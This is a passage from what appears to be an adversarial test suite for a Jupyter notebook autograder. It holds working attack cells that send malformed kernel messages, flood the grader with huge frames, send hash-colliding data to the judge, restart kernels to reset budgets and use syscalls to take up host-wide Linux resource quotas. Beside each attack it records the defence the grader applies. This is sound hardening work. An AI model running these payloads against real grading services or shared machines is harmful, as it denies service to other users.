        ("display_data", {"data": {"text/plain": 5}, "metadata": {}}, {}), ("display_data", {"data": [1]}, {}),
        ("display_data", dict(_zz_D, metadata=[1]), {}), ("display_data", dict(_zz_D, transient=[1]), {}),
        ("display_data", dict(_zz_D, transient={"display_id": {"a": 1}}), {}),
        ("update_display_data", dict(_zz_D, transient={"display_id": [1]}), {}),
        ("execute_result", dict(_zz_D, execution_count="7"), {}), ("execute_input", {"execution_count": [1]}, {}),
        ("error", {"ename": 1, "evalue": "v", "traceback": "t"}, {}), ("status", {"execution_state": 5}, {}),
        ("clear_output", {"wait": "soon"}, {}), ("comm_msg", [1], {}), ("comm_open", "x", {}),
        ("stream", {"name": "stdout", "text": "x"}, {"parent": b"[1]"}),
        ("stream", {"name": "stdout", "text": "x"}, {"parent": b'{"msg_id": 5}'}),
        ("stream", {"name": "stdout", "text": "x"}, {"header": b"[1]"}),
        ("stream", {"name": "stdout", "text": "x"}, {"header": b'{"msg_id": "a", "msg_type": ["stream"]}'}),
        ("stream", {"name": "stdout", "text": "x"}, {"header": b'{"msg_type": "stream"}'}),
        ("stream", {"name": "stdout", "text": "x"}, {"metadata": b"[1]", "extra": [b"zz" * 1000]}),
        ("stream", b"{not json", {}), ("display_data", b'{"data": {"application/json": ' + b"[" * 900 + b"]" * 900
                                       + b'}, "metadata": {}}', {}),
        ("x" * 5000, {}, {})]:
    _zz_iopub(_zz_kind, _zz_content, **_zz_kw)
_zz_k.iopub_socket.send_multipart([b"zz", b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"])
_zz_k.iopub_socket.send_multipart([b"zz", b"no delimiter"])
"""
MALFORMED_SHELL = SENDS_RAW + """
for _zz_content in ([1], "zz", {}, {"status": 5}, {"status": "error"}, {"status": "error", "ename": "E", "evalue": "v",
                                                                          "traceback": [1]}):
    _zz_shell("execute_reply", _zz_content)
_zz_shell("stream", {"name": "stdout", "text": "x"})
_zz_shell("kernel_info_reply", {"status": "ok", "protocol_version": 5, "language_info": []})
"""
STREAM_NAMES = SENDS_RAW + """
for _ in range(15):  # 280 of these grew the grading process by 840 MB
    _zz_iopub("stream", {"name": "n" * 3_000_000, "text": "zz"})
"""
FLOODS_THE_GRADER = SENDS_RAW + """
_zz_big = b"b" * (4 * 2**20 - 100)
for _ in range(40):  # one buffer as 250 frames of 4 MB: ZeroMQ keeps 1 GB of each message in the grader
    _zz_k.iopub_socket.send_multipart([b"zz"] + _zz_frames("comm_msg", {"comm_id": "zz", "data": {}},
                                                           extra=[_zz_big] * 250), copy=False)
for _ in range(280):
    _zz_iopub("stream", {"name": "n" * 3_000_000, "text": "zz"})
"""
ERROR_FLOOD = """
for _ in range(100):  # 300 of these made a 57 MB autograded notebook and a 29 MB feedback page
    try:
        raise ValueError("e" * 198_000)
    except ValueError:
        get_ipython().showtraceback()
"""
FAN_OUT = """
from IPython.display import display as _zz_display, update_display as _zz_update
for _ in range(400):  # then one update that nbclient copies into all 400: 38 MB
    _zz_display({"text/plain": "x"}, raw=True, display_id="zz")
_zz_update({"text/plain": "y" * 120_000}, raw=True, display_id="zz")
"""
EVERY_FIELD = SENDS_RAW + """
_zz_iopub("display_data", {"data": {"text/plain": "a"}, "metadata": {"zz": "m" * 900_000}})
for _ in range(5):
    _zz_iopub("comm_msg", {"comm_id": "zz", "data": {"state": {"zz": "s" * 500_000}}}, extra=[b"b" * 3_000_000])
_zz_iopub("display_data", {"data": {"application/json": {"zz": [0] * 200_000}}, "metadata": {}})
from IPython.display import display as _zz_display, clear_output as _zz_clear
for _ in range(200):
    _zz_display({"text/plain": "c" * 50_000}, raw=True)
    _zz_clear(wait=True)
print("after")
"""
GROWS_IN_PAGES = """
for _zz_text in ("&" * 95_000, "<li>" * 24_000, "\\n" * 90_000, "\\x1b[1;4;31;42mz" * 10_000, "\\u2028" * 90_000,
                 "\\r" * 90_000):
    for _ in range(8):
        print(_zz_text, flush=True)
"""
# the judge: a fresh connection after each restart once meant a fresh budget
RESTARTS_FOR_A_NEW_BUDGET = """
def _zz_flood(megabytes):
    sent = 0
    try:
        for fd in _zz_judge_fds()[:1]:
            for _ in range(megabytes):
                _zz_send(fd, b"x" * (2**20 - 100) + b"\\n")
                sent += 1
    except Exception:
        pass
    return sent
"""
FLOODS_THEN_EXITS = RESTARTS_FOR_A_NEW_BUDGET + """
_zz_flood(10)
_zz_os._exit(0)
"""
PROBES_THE_JUDGE = """
from autograder.kernel import connection as _zz_connection
from autograder.exercises import CHECKS as _zz_CHECKS
try:
    _zz_connection.judge().scenarios(_zz_CHECKS["check_train_loop"], "visible")
    _zz_reached("the judge answered a notebook that had sent it 20 MB, over two kernels")
except Exception:
    pass
"""
HASHES_ALIKE = """
from autograder.kernel import connection as _zz_connection
from autograder.exercises import CHECKS as _zz_CHECKS
_zz_alike = {"$set": [1 + i * (2**61 - 1) for i in range(10_000)]}
try:
    for _ in range(30):  # 0.38 s of the judge's CPU per set, with the judge answering nobody else
        for _zz_token, _ in _zz_connection.judge().scenarios(_zz_CHECKS["check_value_backward"], "visible")[:1]:
            _zz_connection.judge().report(_zz_token, {"data": _zz_alike, "grads": _zz_alike, "calls": []})
except Exception as _zz_e:
    print("judge:", type(_zz_e).__name__)
"""
HOARDS_SCENARIOS = """
from autograder.kernel import connection as _zz_connection
from autograder.exercises import CHECKS as _zz_CHECKS
_zz_held = [0]
def _zz_hoard():  # (a thread: past its cell's timeout, while the notebook's last cells run)
    try:
        while _zz_held[0] <= 9 * 2**20:  # (the scenarios the judge makes fastest: 2.6 MB a second of its CPU)
            for _, _zz_data in _zz_connection.judge().scenarios(_zz_CHECKS["check_freeze_body"], "all"):
                _zz_held[0] += len(__import__("json").dumps(_zz_data))
    except Exception:  # (the judge refused)
        pass
_zz_hoarder = _zz_threading.Thread(target=_zz_hoard, daemon=True)
_zz_hoarder.start()
"""
HOARDED = """
_zz_hoarder.join(8)
if _zz_held[0] > 9 * 2**20:
    _zz_reached("the judge issued %d MB of scenarios to one notebook" % (_zz_held[0] // 2**20))
"""
HOST_WIDE = """
import select as _zz_select, signal as _zz_signal
_zz_c = _zz_libc()
_zz_made = [fd for fd in (_zz_c.inotify_init1(0) for _ in range(130)) if fd >= 0]
if _zz_made:
    _zz_reached("%d inotify instances, the user's whole machine's" % len(_zz_made))
for _zz_fd in _zz_made:
    _zz_os.close(_zz_fd)
if _zz_c.fanotify_init(0, 0) >= 0:
    _zz_reached("a fanotify group")
import ctypes as _zz_ctypes, threading as _zz_t
_zz_aio = _zz_ctypes.c_ulong(0)
if _zz_c.syscall(206 if _zz_os.uname().machine == "x86_64" else 0, 60_000, _zz_ctypes.byref(_zz_aio)) == 0:
    _zz_reached("60 000 of the machine's AIO events (fs.aio-max-nr, every user's)")
    _zz_c.syscall(207 if _zz_os.uname().machine == "x86_64" else 1, _zz_aio)
for _zz_what, _zz_call in (("a POSIX message queue", lambda: _zz_c.mq_open(b"/zz", 0o102, 0o600, None)),
                           ("a System V message queue", lambda: _zz_c.msgget(0, 0o1600)),
                           ("System V semaphores", lambda: _zz_c.semget(0, 8, 0o1600))):
    if _zz_call() >= 0:
        _zz_reached(_zz_what)
try:
    _zz_r, _zz_w = _zz_os.pipe()
    import fcntl as _zz_fcntl
    _zz_fcntl.fcntl(_zz_w, 1031, 2**20)
    _zz_reached("a pipe of 1 MB (the user's pipe pages)")
except Exception:
    pass
try:
    _zz_os.mkfifo("zz-fifo")
    _zz_reached("a FIFO")
except Exception:
    pass
import ctypes as _zz_ctypes, threading as _zz_t
_zz_signal.signal(_zz_signal.SIGRTMIN, lambda *a: None)
_zz_signal.pthread_sigmask(_zz_signal.SIG_BLOCK, {_zz_signal.SIGRTMIN})
_zz_info, _zz_queued = (_zz_ctypes.c_int * 32)(_zz_signal.SIGRTMIN, 0, -1), 0
while _zz_queued < 5000 and _zz_c.syscall(297, _zz_os.getpid(), _zz_t.get_native_id(), _zz_signal.SIGRTMIN,
                                           _zz_ctypes.byref(_zz_info)) == 0:
    _zz_queued += 1
if _zz_queued > 1000:
    _zz_reached("%d queued signals (the user's RLIMIT_SIGPENDING)" % _zz_queued)
_zz_polls, _zz_files, _zz_watches = [], [], 0
try:
    while len(_zz_polls) < 600:
        _zz_polls.append(_zz_select.epoll())
        _zz_files.append(_zz_os.eventfd(0))
except OSError:
    pass
for _zz_p in _zz_polls:
    for _zz_f in _zz_files:
        try:
            _zz_p.register(_zz_f, _zz_select.EPOLLIN)
            _zz_watches += 1
        except OSError:
            pass
for _zz_p in _zz_polls:
    _zz_p.close()
for _zz_f in _zz_files:
    _zz_os.close(_zz_f)
if _zz_watches > 50_000:
    _zz_reached("%d epoll watches (the user's fs.epoll.max_user_watches)" % _zz_watches)
"""

MESSAGES_AND_LIMITS = [
    Attack("malformed_kernel_messages", "class", {"dead_parameters": HONEST + MALFORMED_IOPUB}, NOTHING,
           "its practice cell sends 32 IOPub messages that are not what Jupyter's protocol says (content a list, a "
           "string, a number; fields missing; a wrong type in every field nbclient reads; unsigned, undelimited, not "
           "JSON, nested 900 deep): the cell gets one error saying so and nothing else is lost (a list as content "
           "once zeroed the whole notebook)"),
    Attack("malformed_shell_replies", "class", {"train_accumulate": HONEST + MALFORMED_SHELL}, NOTHING,
           "its practice cell forges replies on the shell channel that the protocol does not allow: at most that "
           "cell fails"),
    Attack("stream_names_of_megabytes", "class", {"accumulation_predictions": HONEST + STREAM_NAMES}, NOTHING,
           "15 stream messages whose name is 3 MB: refused (a stream is stdout or stderr) and paid for as they "
           "arrive, where the name once went uncounted (280 of them grew the grading process by 840 MB)"),
    Attack("floods_the_grader", "class", {"dead_parameters": HONEST + FLOODS_THE_GRADER}, NOTHING,
           "its practice cell sends messages of 250 frames of 4 MB (one buffer, not copied: 1 GB a message in the "
           "grading process), then 280 stream names of 3 MB: the kernel is ended past 64 MB, that cell alone "
           "fails, and the rest of the notebook runs in a fresh kernel"),
    Attack("floods_error_outputs", "class", {"fit_line": HONEST + ERROR_FLOOD}, NOTHING,
           "100 error outputs of 198 000 characters (shown, not raised): the budget counts error messages too, so "
           "what comes back stays small"),
    Attack("fans_out_one_update", "class", {"train_loop": HONEST + FAN_OUT}, NOTHING,
           "400 displays sharing a display id, then one update of 120 000 characters nbclient would copy into each: "
           "paid once per copy, so what comes back stays small"),
    Attack("fills_every_field", "class", {"dead_parameters": HONEST + EVERY_FIELD}, NOTHING,
           "900 kB of display metadata, comm messages with 3 MB buffers, 200 000 items of JSON data and 200 "
           "displays of 50 000 characters each cleared again: every byte is paid for, what comes back stays small"),
    Attack("text_that_grows_in_pages", "class", {"train_accumulate": HONEST + GROWS_IN_PAGES}, NOTHING,
           "text that a notebook file or an HTML page makes bigger (& and < escaped, a line per line break, a "
           "span per escape sequence): paid for at what it becomes, so the feedback page stays small"),
    Attack("restarts_for_a_new_judge_budget", "class",
           {"train_loop": HONEST + RESTARTS_FOR_A_NEW_BUDGET + "_zz_flood(10)\n", "fit_line": FLOODS_THEN_EXITS,
            "dead_parameters": HONEST + PROBES_THE_JUDGE}, FIT,
           "10 MB to the judge, then 10 MB more and os._exit: the restarted kernel's new connection gets no new "
           "budget (a budget per connection once gave one notebook 64 s of the judge's CPU); fit_line died with "
           "its kernel (0)"),
    Attack("reports_sets_that_hash_alike", "class", {"fit_line": HASHES_ALIKE + HONEST}, NOTHING,
           "30 practice reports holding two sets of 10 000 integers that all hash alike, before its fit_line: "
           "decoded without building them (0.38 s a set once, while the judge answered nobody else: the cell "
           "ran past its timeout and fit_line was never defined)"),
    Attack("hoards_scenarios", "class",
           {"dead_parameters": HONEST + HOARDS_SCENARIOS, "train_accumulate": HONEST + HOARDED}, NOTHING,
           "asks the judge for scenarios again and again once its graded cells have run: 8 MB of them per notebook, "
           "where only their number was bounded (10 000 of up to 19 kB)"),
    Attack("takes_host_wide_counts", "class", {"dead_parameters": HONEST + HOST_WIDE}, NOTHING,
           "inotify and fanotify instances, message queues, semaphores, a 1 MB pipe, a FIFO, AIO events, thousands "
           "of queued signals and of epoll watches: what Linux counts per user, or for every user, on the whole "
           "machine is refused or bounded"),
]

ATTACKS = HOOKS + JUDGE + FILES + PROCESSES + DISRUPTIVE + KILL + THIRD_ROUND + FOLDERS + READ_BY_THE_INSTRUCTOR \
    + MESSAGES_AND_LIMITS
BY_NAME = {a.name: a for a in ATTACKS}
RUNS = sorted({a.run for a in ATTACKS}, key=[a.run for a in ATTACKS].index)
assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"


def short_tag(attack: Attack) -> str:
    """A process name (at most 15 bytes) that identifies the attack."""
    return "zz%02d" % ATTACKS.index(attack)


def cell_sources(attack: Attack, honest: dict, values: dict) -> dict:
    """The attacker's answer cells: honest answers, with the attack's cells put in."""
    cells = dict(honest)
    for grade_id, code in attack.cells.items():
        code = LIB + code.replace(HONEST, honest[grade_id] + "\n")
        for key, value in dict(values, NAME=attack.name, SHORT=short_tag(attack),
                               STUDENT=attack.student).items():
            code = code.replace(f"@{key}@", str(value))
        cells[grade_id] = code
    return cells
